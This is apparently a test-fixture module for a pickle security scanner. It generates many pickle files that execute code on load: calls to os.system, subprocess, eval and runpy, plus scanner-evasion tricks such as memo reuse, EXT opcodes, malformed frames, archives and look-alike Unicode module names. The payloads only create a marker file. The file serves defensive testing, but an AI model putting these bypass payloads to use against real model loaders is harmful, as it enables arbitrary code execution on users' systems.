"""Pickles that run code when they are loaded, class by class, with where each was published.

Most were found because scanners, which look for names that are known to be bad, did not know them.
An armed one makes the marker file when CPython's own pickle loads it, on every Python from 3.10
on; the others need a module that is not everywhere, a terminal, a network or a loader's help.
"""

from __future__ import annotations

import io
import marshal
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.formats.jax.pickle_opcodes import (
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    NEWOBJ,
    NONE,
    PROTO,
    REDUCE,
    SETITEM,
    STOP,
    TUPLE1,
    TUPLE2,
    array,
    by_line,
    by_stack,
    many,
    number,
    pickled,
    short_bytes,
    text,
)

_DOCS = "https://docs.python.org/3/library/pickle.html#restricting-globals"
_PICKLESCAN = "https://github.com/mmaitre314/picklescan"
_ADVISORY = f"{_PICKLESCAN}/security/advisories/GHSA-"
_SCANNER_TESTS = f"{_PICKLESCAN}/blob/main/tests/test_scanner.py"
_PYTHON_FUNCTIONS = f"{_PICKLESCAN}/pull/49"
_TORCH_FUNCTIONS = f"{_PICKLESCAN}/pull/47"
_FICKLING = "https://github.com/trailofbits/fickling/pull/"
_FICKLING_BYPASSES = f"{_FICKLING}210"
_MODELSCAN = "https://github.com/protectai/modelscan/issues/"
_PAPER = "https://arxiv.org/abs/2508.19774"
_STDLIB = "https://nvd.nist.gov/vuln/detail/CVE-2026-56315"
_BROKEN = "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"
_OPCODES = "https://github.com/python/cpython/blob/main/Lib/pickletools.py"
_TRICKS = "https://intoli.com/blog/dangerous-pickles/"


@dataclass(frozen=True)
class Attack:
    """A file for a marker, and where the like of it was published."""

    source: str
    make: Callable[[Marker], bytes]
    armed: bool = False


@dataclass(frozen=True)
class Marker:
    """What would be run: it makes the file `path`."""

    path: Path

    @property
    def command(self) -> str:
        return f"touch {self.path}"

    @property
    def python(self) -> str:
        return f"open({str(self.path)!r},'w').close()"

    @property
    def expression(self) -> str:
        return f"__import__('os').system({self.command!r})"


CALL = TUPLE1 + REDUCE


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + many(*arguments) + REDUCE


def items(*values: bytes) -> bytes:
    """A list."""
    return b"]" + MARK + b"".join(values) + b"e"


def long_bytes(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


SYSTEM = by_line("os", "system")
EVAL = by_line("builtins", "eval")
GETATTR = by_line("builtins", "getattr")
OS = call(by_line("importlib", "import_module"), text("os"))


def _names(module: str, name: str, source: str, *, armed: bool = False) -> Attack:
    """Attacks that are a function called with a shell command."""
    return Attack(source, lambda m: pickled(call(by_stack(module, name), text(m.command))), armed)


def _runs(module: str, name: str, source: str, *, armed: bool = False) -> Attack:
    """Attacks that are a function called with Python's own source."""
    return Attack(source, lambda m: pickled(call(by_stack(module, name), text(m.python))), armed)


def _made(source: str, make: Callable[[Marker], bytes]) -> Attack:
    """Armed attacks of several opcodes, pickled with protocol 4."""
    return Attack(source, lambda m: pickled(make(m)), armed=True)


FUNCTIONS: dict[str, Attack] = {
    "os.system": _names("os", "system", _DOCS, armed=True),
    "posix.system": _names("posix", "system", _PICKLESCAN, armed=True),
    "nt.system": _names("nt", "system", _PICKLESCAN),
    "os.popen": _names("os", "popen", _PICKLESCAN, armed=True),
    "os.execvp": Attack(
        _PICKLESCAN,
        lambda m: pickled(call(by_line("os", "execvp"), text("sh"), items(text("sh")))),
    ),
    "subprocess.getoutput": _names("subprocess", "getoutput", _PICKLESCAN, armed=True),
    "subprocess.Popen": Attack(
        _PICKLESCAN,
        lambda m: pickled(
            call(by_line("subprocess", "Popen"), items(text("touch"), text(str(m.path))))
        ),
        armed=True,
    ),
    "_posixsubprocess.fork_exec": _names("_posixsubprocess", "fork_exec", f"{_FICKLING}272"),
    "multiprocessing.util.spawnv_passfds": _made(
        f"{_MODELSCAN}338",
        lambda m: call(
            by_line("multiprocessing.util", "spawnv_passfds"),
            short_bytes(b"/bin/sh"),
            many(text("sh"), text("-c"), text(m.command)),
            EMPTY_TUPLE,
        ),
    ),
    "pty.spawn": Attack(
        f"{_FICKLING}187",
        lambda m: pickled(
            call(by_line("pty", "spawn"), items(text("sh"), text("-c"), text(m.command)))
        ),
    ),
    "builtins.eval": Attack(_TRICKS, lambda m: pickled(call(EVAL, text(m.expression))), armed=True),
    "builtins.exec": _runs("builtins", "exec", _TRICKS, armed=True),
    "__builtin__.eval": _runs("__builtin__", "eval", _TRICKS),
    "builtins.open": Attack(
        _PICKLESCAN,
        lambda m: pickled(call(by_line("builtins", "open"), text(str(m.path)), text("w"))),
        armed=True,
    ),
    "_io.FileIO": Attack(
        _FICKLING_BYPASSES,
        lambda m: pickled(call(by_line("_io", "FileIO"), text(str(m.path)), text("w"))),
        armed=True,
    ),
    "builtins.getattr of builtins.__import__": _made(
        f"{_PICKLESCAN}/issues/66",
        lambda m: call(
            call(GETATTR, call(by_line("builtins", "__import__"), text("os")), text("system")),
            text(m.command),
        ),
    ),
    "importlib.import_module": _made(
        f"{_PICKLESCAN}/pull/74", lambda m: call(call(GETATTR, OS, text("system")), text(m.command))
    ),
    "pkgutil.resolve_name": _made(
        f"{_ADVISORY}vvpj-8cmc-gx39",
        lambda m: call(
            call(by_line("pkgutil", "resolve_name"), text("os:system")), text(m.command)
        ),
    ),
    "pydoc.locate": _made(
        _PAPER,
        lambda m: call(call(by_line("pydoc", "locate"), text("os.system")), text(m.command)),
    ),
    "logging.config._resolve": _made(
        f"{_PICKLESCAN}/issues/66",
        lambda m: call(
            call(by_line("logging.config", "_resolve"), text("os.system")), text(m.command)
        ),
    ),
    "sys.modules": _made(
        _PAPER,
        lambda m: call(
            call(
                GETATTR,
                call(by_line("operator", "getitem"), by_line("sys", "modules"), text("os")),
                text("system"),
            ),
            text(m.command),
        ),
    ),
    "functools.partial": _made(
        _FICKLING_BYPASSES,
        lambda m: call(call(by_line("functools", "partial"), SYSTEM, text(m.command))),
    ),
    "functools.reduce": _made(
        _FICKLING_BYPASSES,
        lambda m: call(
            by_line("functools", "reduce"),
            by_line("operator", "add"),
            call(by_line("builtins", "map"), SYSTEM, items(text(m.command), text("true"))),
        ),
    ),
    "operator.attrgetter": _made(
        f"{_ADVISORY}m273-6v24-x4m4",
        lambda m: call(
            call(call(by_line("operator", "attrgetter"), text("system")), OS), text(m.command)
        ),
    ),
    "_operator.methodcaller": _made(
        f"{_ADVISORY}955r-x9j8-7rhh",
        lambda m: call(
            call(by_line("_operator", "methodcaller"), text("system"), text(m.command)), OS
        ),
    ),
    "types.FunctionType of marshal.loads": _made(
        f"{_FICKLING}186",
        lambda m: call(
            call(
                by_line("types", "FunctionType"),
                call(
                    by_line("marshal", "loads"),
                    long_bytes(marshal.dumps(compile(m.expression, "x", "eval"))),
                ),
                EMPTY_DICT,
            )
        ),
    ),
    "types.CodeType": _names("types", "CodeType", f"{_FICKLING}186"),
    "runpy._run_code": _made(
        f"{_FICKLING}195",
        lambda m: call(
            by_line("runpy", "_run_code"),
            call(by_line("builtins", "compile"), text(m.python), text("x"), text("exec")),
            EMPTY_DICT,
        ),
    ),
    "runpy.run_path": _names("runpy", "run_path", f"{_FICKLING}195"),
    "code.InteractiveInterpreter.runsource": _made(
        _PYTHON_FUNCTIONS,
        lambda m: call(
            by_stack("code", "InteractiveInterpreter.runsource"),
            call(by_line("code", "InteractiveInterpreter")),
            text(m.python),
        ),
    ),
    "codeop.compile_command": _runs("codeop", "compile_command", _PYTHON_FUNCTIONS),
    "timeit.timeit": _made(
        f"{_ADVISORY}655q-fx9r-782v",
        lambda m: call(by_line("timeit", "timeit"), text("0"), text(m.python)),
    ),
    "cProfile.run": _runs("cProfile", "run", _PYTHON_FUNCTIONS, armed=True),
    "cProfile.runctx": _made(
        f"{_ADVISORY}9w88-8rmg-7g2p",
        lambda m: call(by_line("cProfile", "runctx"), text(m.python), EMPTY_DICT, EMPTY_DICT),
    ),
    "profile.run": _runs("profile", "run", f"{_ADVISORY}46h3-79wf-xr6c", armed=True),
    "pdb.run": _runs("pdb", "run", f"{_ADVISORY}4675-36f9-wf6r"),
    "bdb.Bdb.run": _made(
        f"{_ADVISORY}4675-36f9-wf6r",
        lambda m: call(
            by_stack("bdb", "Bdb.runeval"), call(by_line("bdb", "Bdb")), text(m.expression)
        ),
    ),
    "trace.Trace.run": _made(
        _FICKLING_BYPASSES,
        lambda m: call(
            by_stack("trace", "Trace.run"),
            call(by_line("trace", "Trace"), number(0), number(0)),
            text(m.python),
        ),
    ),
    "doctest.debug_script": _runs("doctest", "debug_script", f"{_ADVISORY}fqq6-7vqf-w3fg"),
    "idlelib.pyshell.ModifiedInterpreter.runcommand": _runs(
        "idlelib.pyshell", "ModifiedInterpreter.runcommand", f"{_ADVISORY}j343-8v2j-ff7w"
    ),
    "idlelib.run.Executive.runcode": _runs(
        "idlelib.run", "Executive.runcode", f"{_ADVISORY}m869-42cg-3xwr"
    ),
    "lib2to3.pgen2.pgen.ParserGenerator.make_label": _runs(
        "lib2to3.pgen2.pgen", "ParserGenerator.make_label", f"{_ADVISORY}p9w7-82w4-7q8m"
    ),
    "pip.main": _names("pip", "main", f"{_ADVISORY}655q-fx9r-782v"),
    "ensurepip._run_pip": _names("ensurepip", "_run_pip", f"{_ADVISORY}xp4f-hrf8-rxw7"),
    "venv.create": _names("venv", "create", f"{_ADVISORY}vqmv-47xg-9wpr"),
    "site.addpackage": _names("site", "addpackage", f"{_FICKLING}272"),
    "atexit.register": Attack(
        f"{_FICKLING}272",
        lambda m: pickled(call(by_line("atexit", "register"), SYSTEM, text(m.command))),
    ),
    "distutils.file_util.write_file": _names(
        "distutils.file_util", "write_file", _FICKLING_BYPASSES
    ),
    "shutil.rmtree": _names("shutil", "rmtree", _FICKLING_BYPASSES),
    "imp.load_source": _names("imp", "load_source", f"{_FICKLING}312"),
    "pipes.Template": _names("pipes", "Template", f"{_FICKLING}312"),
    "_interpreters.run_string": _runs("_interpreters", "run_string", f"{_FICKLING}302"),
    "_xxsubinterpreters.run_string": _runs("_xxsubinterpreters", "run_string", f"{_FICKLING}302"),
    "_osx_support._read_output": _names("_osx_support", "_read_output", _STDLIB, armed=True),
    "_aix_support._read_cmd_output": _names("_aix_support", "_read_cmd_output", _STDLIB),
    "uuid._get_command_stdout": _names("uuid", "_get_command_stdout", f"{_FICKLING}240"),
    "_pyrepl.pager.pipe_pager": _names("_pyrepl.pager", "pipe_pager", _STDLIB),
    "imaplib.IMAP4_stream": _names("imaplib", "IMAP4_stream", _STDLIB, armed=True),
    "ctypes.CDLL": _made(
        f"{_FICKLING}195",
        lambda m: call(
            call(GETATTR, call(by_line("ctypes", "CDLL"), NONE), text("system")),
            short_bytes(m.command.encode()),
        ),
    ),
    "webbrowser.GenericBrowser": _made(
        _PAPER,
        lambda m: call(
            call(by_line("operator", "methodcaller"), text("open"), text(str(m.path))),
            call(by_line("webbrowser", "GenericBrowser"), items(text("touch"), text("%s"))),
        ),
    ),
    "asyncio.unix_events._UnixSubprocessTransport._start": _names(
        "asyncio.unix_events", "_UnixSubprocessTransport._start", f"{_ADVISORY}f7qq-56ww-84cr"
    ),
    "asyncio.create_subprocess_shell": _names(
        "asyncio.subprocess", "create_subprocess_shell", f"{_ADVISORY}f7qq-56ww-84cr"
    ),
    "pickle.loads, a pickle in a pickle": _made(
        f"{_ADVISORY}84r2-jw7c-4r5q",
        lambda m: call(
            by_line("pickle", "loads"), long_bytes(pickled(call(SYSTEM, text(m.command))))
        ),
    ),
    "_pickle.loads": _names("_pickle", "loads", f"{_ADVISORY}84r2-jw7c-4r5q"),
    "joblib.load": _names("joblib", "load", _PAPER),
    "dill.loads": _names("dill", "loads", _PAPER),
    "numpy.load": _names("numpy", "load", _PAPER),
    "numpy.testing._private.utils.runstring": _made(
        _SCANNER_TESTS,
        lambda m: call(
            by_line("numpy.testing._private.utils", "runstring"), text(m.python), EMPTY_DICT
        ),
    ),
    "numpy.f2py.crackfortran.getlincoef": Attack(
        _FICKLING_BYPASSES,
        lambda m: pickled(
            call(by_line("numpy.f2py.crackfortran", "getlincoef"), text(m.expression), EMPTY_DICT)
        ),
    ),
    "numpy.f2py.crackfortran._eval_length": _runs(
        "numpy.f2py.crackfortran", "_eval_length", _FICKLING_BYPASSES
    ),
    "torch.load": _names("torch", "load", _PAPER),
    "torch.hub.load": _names("torch.hub", "load", _PAPER),
    "torch._inductor.codecache.compile_file": _names(
        "torch._inductor.codecache", "compile_file", _PAPER
    ),
    "torch._dynamo.guards.GuardBuilder.get": _names(
        "torch._dynamo.guards", "GuardBuilder.get", f"{_ADVISORY}86cj-95qr-2p4f"
    ),
    "torch.utils.collect_env.run": _names(
        "torch.utils.collect_env", "run", f"{_ADVISORY}f745-w6jp-hpxx"
    ),
    "torch.utils.bottleneck.__main__.run_cprofile": _runs(
        "torch.utils.bottleneck.__main__", "run_cprofile", f"{_ADVISORY}4r9r-ch6f-vxmx"
    ),
    "torch.utils._config_module.load_config": _names(
        "torch.utils._config_module", "ConfigModule.load_config", f"{_ADVISORY}vv6j-3g6g-2pvj"
    ),
    "torch.jit.unsupported_tensor_ops.execWrapper": _runs(
        "torch.jit.unsupported_tensor_ops", "execWrapper", f"{_ADVISORY}vr7h-p6mm-wpmh"
    ),
    "torch.fx.experimental.symbolic_shapes": _runs(
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
        f"{_ADVISORY}f4x7-rfwp-v3xw",
    ),
    "pandas.read_csv": _names("pandas.io.parsers.readers", "read_csv", f"{_MODELSCAN}338"),
    "mlflow.projects.backend.local._run_entry_point": _names(
        "mlflow.projects.backend.local", "_run_entry_point", f"{_MODELSCAN}338"
    ),
    "urllib.request.urlopen": _names("urllib.request", "urlopen", f"{_MODELSCAN}338"),
    "ssl.get_server_certificate": _names(
        "ssl", "get_server_certificate", f"{_ADVISORY}hgrh-qx5j-jfwx"
    ),
    "socket.create_connection": _names("socket", "create_connection", f"{_FICKLING}27"),
}


def _zipped(raw: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("archive/data.pkl", raw)
    return file.getvalue()


def _payload(m: Marker) -> bytes:
    return call(SYSTEM, text(m.command))


def _slots(name: str, value: str) -> bytes:
    """BUILD with (None, {name: value}) sets attributes of whatever lies on the stack."""
    return NONE + EMPTY_DICT + text(name) + text(value) + SETITEM + TUPLE2 + BUILD


STREAMS: dict[str, Attack] = {
    "a name with dots: logging.os.system": _made(
        f"{_PICKLESCAN}/issues/66",
        lambda m: call(by_stack("logging", "os.system"), text(m.command)),
    ),
    "a line with dots": _made(
        f"{_PICKLESCAN}/issues/66",
        lambda m: call(by_line("logging", "os.system"), text(m.command)),
    ),
    "names by PUT and GET": _made(
        f"{_PICKLESCAN}/issues/22",
        lambda m: call(
            text("os") + b"p7\n0" + text("system") + b"p8\n0g7\ng8\n\x93", text(m.command)
        ),
    ),
    "a memo entry set twice": _made(
        f"{_PICKLESCAN}/issues/14",
        lambda m: call(
            text("numpy")
            + b"q\x07"
            + text("os")
            + b"q\x07"
            + text("system")
            + b"q\x08"
            + (b"000h\x07h\x08\x93"),
            text(m.command),
        ),
    ),
    "MEMOIZE beside BINPUT": _made(
        f"{_PICKLESCAN}/issues/14",
        lambda m: call(
            text("os")
            + b"q\x00"
            + text("system")
            + b"q\x01"
            + text("numpy")
            + b"\x94"
            + text("ndarray")
            + (b"\x940000h\x00h\x01\x93"),
            text(m.command),
        ),
    ),
    "names hidden in a harmless function": _made(
        f"{_MODELSCAN}85",
        lambda m: call(
            by_line("numpy", "prod")
            + _slots("a", "os")
            + _slots("b", "system")
            + b"0"
            + by_line("numpy", "prod.a")
            + by_line("numpy", "prod.b")
            + b"\x93",
            text(m.command),
        ),
    ),
    "an attribute of an allowed class": Attack(
        f"{_MODELSCAN}85",
        lambda m: pickled(by_line("numpy", "ndarray") + _slots("a", "os") + _payload(m)),
    ),
    "EXT1 after copyreg.add_extension": _made(
        _OPCODES,
        lambda m: (
            call(by_line("copyreg", "add_extension"), text("os"), text("system"), number(7))
            + call(b"\x82\x07", text(m.command))
        ),
    ),
    "EXT2": Attack(_OPCODES, lambda m: pickled(call(b"\x83\x07\0", text(m.command)))),
    "EXT4": Attack(_OPCODES, lambda m: pickled(call(b"\x84\x07\0\0\0", text(m.command)))),
    "PERSID": Attack(_OPCODES, lambda m: pickled(b"P" + m.command.encode() + b"\n")),
    "BINPERSID": Attack(_OPCODES, lambda m: pickled(text(m.command) + b"Q")),
    "INST": _made(_TRICKS, lambda m: MARK + text(m.command) + b"ios\nsystem\n"),
    "OBJ": _made(f"{_FICKLING}108", lambda m: MARK + SYSTEM + text(m.command) + b"o"),
    "NEWOBJ": Attack(
        _OPCODES, lambda m: pickled(by_line("subprocess", "Popen") + EMPTY_TUPLE + NEWOBJ)
    ),
    "NEWOBJ_EX": Attack(
        _OPCODES,
        lambda m: pickled(by_line("subprocess", "Popen") + EMPTY_TUPLE + EMPTY_DICT + b"\x92"),
    ),
    "BUILD calls __setstate__": _made(
        f"{_FICKLING}302",
        lambda m: (
            call(by_line("types", "SimpleNamespace"))
            + (
                EMPTY_DICT
                + text("__setstate__")
                + SYSTEM
                + SETITEM
                + BUILD
                + text(m.command)
                + BUILD
            )
        ),
    ),
    "a payload, then an unknown opcode": _made(_BROKEN, lambda m: _payload(m) + b"\xff\xff"),
    "a payload, then the end of the file": Attack(
        _BROKEN, lambda m: PROTO + _payload(m), armed=True
    ),
    "a payload, then an empty stack": _made(_PAPER, lambda m: _payload(m) + b"000R"),
    "a payload, then a memo entry never set": _made(
        "https://github.com/protectai/modelscan/pull/348", lambda m: _payload(m) + b"h\xee\x93"
    ),
    "a payload, then a string that is cut": _made(
        _BROKEN, lambda m: _payload(m) + b"X\xff\xff\xff\x7fx"
    ),
    "a payload before an array": _made(_PAPER, lambda m: _payload(m) + b"0" + array([1], b"1234")),
    "an array, then another pickle": Attack(
        _PAPER, lambda m: pickled(array([1], b"1234")) + pickled(_payload(m))
    ),
    "an array, then anything": Attack(
        _PAPER, lambda m: pickled(array([1], b"1234")) + b"\0" * 512 + _payload(m)
    ),
    "protocol 0": Attack(
        _TRICKS, lambda m: b"cos\nsystem\n(S" + repr(m.command).encode() + b"\ntR.", armed=True
    ),
    "protocol 0 with a header of 4": _made(
        _TRICKS, lambda m: SYSTEM + b"(V" + m.command.encode() + b"\ntR"
    ),
    "protocol 1": Attack(
        _TRICKS, lambda m: b"cos\nsystem\nq\0(" + text(m.command) + b"q\x01tq\x02R.", armed=True
    ),
    "two headers": _made(_TRICKS, lambda m: PROTO + _payload(m)),
    "a frame that is too short": Attack(
        _PAPER,
        lambda m: PROTO + b"\x95" + struct.pack("<Q", 3) + _payload(m) + STOP,
        armed=True,
    ),
    "a frame that is too long": Attack(
        _PAPER, lambda m: PROTO + b"\x95" + struct.pack("<Q", 1 << 40) + _payload(m) + STOP
    ),
    "a frame after the payload": Attack(
        _PAPER,
        lambda m: PROTO + _payload(m) + b"\x95" + struct.pack("<Q", 1 << 40) + STOP,
        armed=True,
    ),
    "in a ZIP archive": Attack(
        "https://nvd.nist.gov/vuln/detail/CVE-2025-1944", lambda m: _zipped(pickled(_payload(m)))
    ),
    "in a 7z archive": Attack(_BROKEN, lambda m: b"7z\xbc\xaf\x27\x1c\0\4" + pickled(_payload(m))),
    "behind another format's name": Attack(
        "https://nvd.nist.gov/vuln/detail/CVE-2025-1889",
        lambda m: b"\x93NUMPY" + pickled(_payload(m)),
    ),
    "a module in full-width letters": Attack(
        _PAPER, lambda m: pickled(call(by_stack("\uff4f\uff53", "system"), text(m.command)))
    ),
    "an allowed module in full-width letters": Attack(
        _PAPER, lambda m: pickled(call(by_stack("\uff4eumpy", "ndarray"), text(m.command)))
    ),
    "a zero-width space in a module": Attack(
        _PAPER, lambda m: pickled(call(by_stack("num\u200bpy", "ndarray"), text(m.command)))
    ),
    "a NUL in a module": Attack(
        _PAPER, lambda m: pickled(call(by_stack("numpy\0os", "ndarray"), text(m.command)))
    ),
}

ATTACKS = FUNCTIONS | STREAMS


def load_all(folder: Path) -> None:
    """Load every file of a folder with CPython's pickle, each in a process of its own."""
    import os

    for path in sorted(folder.iterdir()):
        if os.fork() == 0:
            try:
                pickle.loads(path.read_bytes())
            finally:
                os._exit(0)
    while True:
        try:
            os.wait()
        except ChildProcessError:
            return


if __name__ == "__main__":
    import sys

    load_all(Path(sys.argv[1]))
